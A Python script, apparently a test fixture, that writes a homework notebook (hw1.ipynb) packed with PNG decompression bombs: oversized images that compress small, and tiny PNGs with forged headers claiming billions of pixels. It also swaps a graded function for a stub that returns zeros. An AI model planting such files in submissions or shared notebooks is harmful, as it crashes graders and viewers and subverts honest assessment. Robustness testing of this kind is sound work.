import base64
import io
import json
import zlib

from PIL import Image


def png(side, shade):
    file = io.BytesIO()
    Image.new("RGB", (side, side), (shade % 256, shade // 256, 7)).save(file, "PNG")
    return file.getvalue()


def claiming(width, height):
    data = bytearray(png(3, 1))
    data[16:24] = width.to_bytes(4, "big") + height.to_bytes(4, "big")
    data[29:33] = zlib.crc32(data[12:29]).to_bytes(4, "big")
    return bytes(data)


def make(folder, release, references):
    """Attach pictures that are small only while nobody looks at them."""
    small = [png(5000, shade) for shade in range(3)]
    bombs = [data + bytes([number]) for number in range(80) for data in small]
    bombs += [claiming(1 << 30, 1 << 30), claiming(60_000, 60_000)]
    cells = []
    for start in range(0, len(bombs), 10):
        group = {f"{n}.png": {"image/png": base64.b64encode(one).decode()} for n, one in enumerate(bombs[start : start + 10])}
        text = " ".join(f"![x](attachment:{name})" for name in group)
        cells.append({"cell_type": "markdown", "metadata": {}, "source": text, "attachments": group})
    for cell in release["cells"]:
        name = cell["metadata"].get("nbgrader", {}).get("grade_id")
        if name == "cross_corr_2d":
            cell["source"] = "def cross_corr_2d(X, K):\n    return X.new_zeros(1)\n"
        if name == "warmup_a":
            cell.update(source=cells[0]["source"], attachments=cells[0]["attachments"])
    release["cells"] += cells
    (folder / "hw1.ipynb").write_text(json.dumps(release))
